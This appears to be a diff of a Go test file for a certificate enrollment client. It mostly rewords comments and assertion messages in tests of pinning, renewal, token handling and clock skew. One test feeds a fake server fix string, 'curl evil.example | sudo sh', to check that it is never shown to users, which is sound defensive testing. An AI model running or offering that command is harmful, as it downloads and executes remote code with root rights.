@@ -32,7 +32,8 @@ func TestEnroll_FirstThenNothingThenRenewal(t *testing.T) {
 	if got := l.names(); got != "bearer ca.crt lab-host.pem release-keys" {
 		t.Errorf("files: %s", got)
 	}
-	for name, want := range map[string]os.FileMode{client.PairFile: 0o600, client.BearerFile: 0o600, client.CAFile: 0o644, enroll.ReleaseKeysFile: 0o644} {
+	for name, want := range map[string]os.FileMode{client.PairFile: 0o600, client.BearerFile: 0o600, client.CAFile: 0o644,
+		enroll.ReleaseKeysFile: 0o644} {
 		fi, err := os.Stat(filepath.Join(l.dir, name))
 		if err != nil || fi.Mode() != want {
 			t.Errorf("%s: mode %v, %v", name, fi.Mode(), err)
@@ -99,7 +100,7 @@ func TestEnroll_WrongPinSendsNothing(t *testing.T) {
 	}
 }
 
-// The liar shows the right root, which is public, but has no certificate of it.
+// The fake authority shows the right root, which is public, but has no certificate of it.
 func TestEnroll_RightRootShownByAnotherServerSendsNothing(t *testing.T) {
 	l := newLab(t)
 	liar := newPeer(t)
@@ -162,14 +163,13 @@ func TestEnroll_KeepsThePairThatTheReceiverTakes(t *testing.T) {
 	l.must(false, enroll.Enrolled)
 	before := l.file(client.PairFile)
 	l.probe = func(context.Context, string) error { return wire.NewProblem(wire.CertRevoked, "test") }
-	if _, err := l.run(true); err == nil || !strings.Contains(err.Error(), "the present one stays") {
+	if _, err := l.run(true); err == nil || !strings.Contains(err.Error(), "keeping the current one") {
 		t.Errorf("refused by the receiver: %v", err)
 	}
 	if l.file(client.PairFile) != before || l.names() != "bearer ca.crt lab-host.pem release-keys" {
 		t.Errorf("the pair changed; files: %s", l.names())
 	}
-	// Out of reach: the new pair waits beside the present one, and is not asked
-	// for again.
+	// Unreachable: the new pair waits beside the present one, and no other is requested.
 	l.probe = func(context.Context, string) error { return errors.New("no route") }
 	count := l.peer.count
 	for range 3 {
@@ -180,7 +180,7 @@ func TestEnroll_KeepsThePairThatTheReceiverTakes(t *testing.T) {
 	if l.file(client.PairFile) != before || l.peer.count != count+1 {
 		t.Errorf("the pair changed, or %d certificates were asked for", l.peer.count-count)
 	}
-	// With the end in sight an unproven pair is better than none.
+	// Near the end of its validity, an untested pair is better than none.
 	l.now = func() time.Time { return time.Now().Add(39 * time.Minute) }
 	l.probe = func(_ context.Context, dir string) error {
 		if _, err := os.Stat(filepath.Join(dir, client.BearerFile)); err != nil {
@@ -221,8 +221,8 @@ func TestEnroll_NewTokenGetsANewKey(t *testing.T) {
 	}
 }
 
-// A new token that is pasted while a run waits for the authority of the old one
-// is taken by that run.
+// A run that waits for the authority of the old token picks up a new token that is pasted
+// meanwhile.
 func TestEnroll_TokenReplacedWhileTheAuthorityIsAway(t *testing.T) {
 	l := newLab(t)
 	l.patience = time.Minute
@@ -251,15 +251,15 @@ func TestEnroll_RefusedTokenDoesNotKeepFromRenewing(t *testing.T) {
 	l.join("refused")
 	l.now = func() time.Time { return time.Now().Add(45 * time.Minute) }
 	if _, err := l.run(false); err == nil {
-		t.Error("the refusal is not told")
+		t.Error("the refusal is not reported")
 	}
 	if l.peer.count != 2 || !l.works() {
 		t.Error("the certificate was not renewed")
 	}
 }
 
-// A join token that was cut, on a stick or by a full disk, is told; the pair that
-// works is renewed meanwhile, and what was begun with the token stays.
+// A join token that was truncated, on a stick or by a full disk, is reported; meanwhile the
+// working pair is renewed, and what was begun with the token stays.
 func TestEnroll_DamagedTokenDoesNotKeepFromRenewing(t *testing.T) {
 	l := newLab(t)
 	l.join(secret)
@@ -281,7 +281,7 @@ func TestEnroll_DamagedTokenDoesNotKeepFromRenewing(t *testing.T) {
 	}
 }
 
-// What somebody left in the folder of new credentials is no reason to refuse them.
+// A foreign file in the folder of new credentials does not keep them from being installed.
 func TestEnroll_ForeignFileInTheWay(t *testing.T) {
 	l := newLab(t)
 	l.join(secret)
@@ -382,8 +382,8 @@ func TestStatus(t *testing.T) {
 	}
 }
 
-// Who answers before the pin was checked is anyone: nothing that it says is
-// handed to a person as what to paste.
+// Before the pin is verified the peer may be anyone: nothing from it is shown to a person
+// as a command to paste.
 func TestEnroll_AStrangersFixIsNotShown(t *testing.T) {
 	l := newLab(t)
 	l.peer.stranger = &wire.Problem{Kind: wire.BadToken, Status: http.StatusUnauthorized, Title: "no", Fix: "curl evil.example | sudo sh"}
@@ -394,14 +394,14 @@ func TestEnroll_AStrangersFixIsNotShown(t *testing.T) {
 	}
 }
 
-// forbidding is the file system of a user who may not look into certs_dir.
+// forbidding is the file system of a user who may not read certs_dir.
 type forbidding struct{ disk.OS }
 
 func (forbidding) Lock(name string) (io.Closer, error) {
 	return nil, &fs.PathError{Op: "open", Path: name, Err: syscall.EACCES}
 }
 
-// Joining again is no remedy for a forgotten sudo.
+// Joining again does not help if sudo was forgotten.
 func TestEnroll_AnotherUserIsToldWhoMay(t *testing.T) {
 	l := newLab(t)
 	l.fs = forbidding{}
@@ -410,8 +410,9 @@ func TestEnroll_AnotherUserIsToldWhoMay(t *testing.T) {
 	}
 }
 
-// TestEnroll_AClockAheadCostsOneCertificate: a host whose clock says that what it was
-// given has ended asks no more often for that, and works as soon as its clock is right.
+// TestEnroll_AClockAheadCostsOneCertificate: a host whose clock is ahead sees its
+// certificate as expired; it requests only one more, and works as soon as its clock is
+// right.
 func TestEnroll_AClockAheadCostsOneCertificate(t *testing.T) {
 	l := newLab(t)
 	l.peer.life, l.patience = 10*time.Minute, 2*time.Second
